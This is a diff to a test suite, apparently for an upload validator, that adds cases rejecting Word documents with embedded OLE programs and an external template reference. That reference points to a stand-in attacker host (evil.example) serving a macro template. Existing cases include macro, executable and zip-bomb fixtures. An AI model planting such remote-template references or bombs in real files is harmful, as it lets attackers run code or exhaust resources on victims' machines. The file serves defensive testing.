@@ -72,6 +72,21 @@ describe('A file that is not what it says or does harm (security 49, 50)', () =>
     ['half a photo', 'a.jpg', photo().then((bytes) => bytes.subarray(0, 900)), 'damaged'],
     ['a document with macros', 'a.docx', officeDocument('docx', { 'word/vbaProject.bin': 'x' }), 'macros'],
     ['a program in a document', 'a.docx', officeDocument('docx', { 'word/a.exe': program }), 'macros'],
+    [
+      'an object of another program in a document',
+      'a.docx',
+      officeDocument('docx', { 'word/embeddings/oleObject1.bin': program }),
+      'scripts',
+    ],
+    [
+      'a document whose template is elsewhere',
+      'a.docx',
+      officeDocument('docx', {
+        'word/_rels/settings.xml.rels':
+          '<Relationships><Relationship Id="r1" Type="a/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>',
+      }),
+      'scripts',
+    ],
     ['a bomb', 'a.docx', officeDocument('docx', { 'word/a.xml': ZEROS }), 'archive'],
     ['a steep bomb', 'a.xlsx', officeDocument('xlsx', { 'xl/a.xml': ZEROS.subarray(0, 2 ** 22) }), 'archive'],
     ['a bomb that says it is small', 'a.docx', lyingSize(), 'archive'],
